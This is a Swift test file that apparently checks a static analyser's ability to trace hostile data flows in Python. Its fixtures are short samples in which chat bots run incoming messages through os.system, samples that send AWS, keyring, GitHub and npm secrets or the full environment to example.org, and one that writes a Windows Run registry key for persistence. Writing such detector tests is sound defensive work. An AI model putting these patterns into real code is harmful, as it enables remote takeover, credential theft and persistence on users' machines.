import Evidence
import Testing

/// What goes in at one library and comes out at another.
@Suite("Library flows")
struct LibraryFlowTests {
  @Test(
    "lead from a message to what its handler runs",
    arguments: [
      "import telebot, os\nb = telebot.TeleBot('t')\n@b.message_handler(commands=['x'])\ndef f(m):\n  os.system(m.text)",
      "import discord, os\nc = discord.Client()\n@c.event\nasync def on_message(m):\n  os.system(m.content)",
      "import socketio, os\ns = socketio.Client()\ns.connect('http://example.org/')\n@s.on('x')\ndef f(d):\n  os.system(d)",
      "import websocket, os\nwebsocket.WebSocketApp('ws://example.org/', on_message=lambda w, m: os.system(m))",
    ])
  func remoteControl(code: String) {
    let reached = followModule(code)
    #expect(reached.flowKinds.contains("network.connect → process.spawn"), "\(reached.facts)")
  }

  @Test(
    "lead from a secret to the service it is sent to",
    arguments: [
      "import boto3, requests\nc = boto3.Session().get_credentials()\nrequests.post('http://example.org/', data=c.secret_key)",
      "import keyring, smtplib\ns = smtplib.SMTP('example.org')\ns.sendmail('a', 'b', keyring.get_password('a', 'b'))",
      "import os, dns.resolver\ndns.resolver.resolve(os.environ['GITHUB_TOKEN'] + '.example.org')",
      "import telegram, os\ntelegram.Bot('t').send_message(1, str(dict(os.environ)))",
      "import redis, os\nredis.Redis('example.org').set('k', os.environ['AWS_SECRET_ACCESS_KEY'])",
      "from sh import curl\nimport os\ncurl('-d', os.environ['NPM_TOKEN'], 'http://example.org/')",
    ])
  func exfiltration(code: String) {
    let kinds = followModule(code).flowKinds
    #expect(
      kinds.contains("credential.read → network.connect") || kinds.contains("env.read → network.connect"), "\(kinds)")
  }

  @Test("keep a handler that a decorator got")
  func decorated() {
    let reached = followModule(
      "import telebot, os\nb = telebot.TeleBot('t')\n@b.message_handler()\ndef f(m=None):\n  os.system('id')\nf()")
    #expect(reached.has(.processSpawn, "id"))
  }

  @Test("name a registry value by its whole path")
  func registry() {
    let key = "Software\\\\Microsoft\\\\Windows\\\\CurrentVersion\\\\Run"
    let reached = followModule(
      "import winreg\nk = winreg.OpenKey(winreg.HKEY_CURRENT_USER, '\(key)', 0, winreg.KEY_SET_VALUE)\n"
        + "winreg.SetValueEx(k, 'x', 0, winreg.REG_SZ, 'c.exe')")
    #expect(reached.capabilities.contains { $0.kind == .persistenceWrite && $0.argument?.hasSuffix("Run\\x") ?? false })
  }
}
